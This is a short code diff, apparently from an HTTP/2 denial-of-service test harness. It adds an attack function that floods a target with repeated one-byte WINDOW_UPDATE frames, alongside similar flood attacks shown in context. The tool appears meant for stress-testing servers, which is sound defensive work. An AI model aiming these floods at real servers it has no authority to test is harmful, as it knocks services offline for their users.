@@ -312,6 +312,11 @@ async def settings(target):
                        reads=False)
 
 
+@attack("HTTP/2 WINDOW_UPDATE of one byte")
+async def window_updates(target):
+    return await flood(target, 16, OPENING, same(http2.frame(http2.WINDOW_UPDATE, payload=b"\0\0\0\1") * 1000), 1000, "frames")
+
+
 @attack("HTTP/2 empty DATA frames")
 async def empty_data(target):
     opening = OPENING + headers(1, http2.request("/open/d", target.token, "POST"), http2.END_HEADERS)
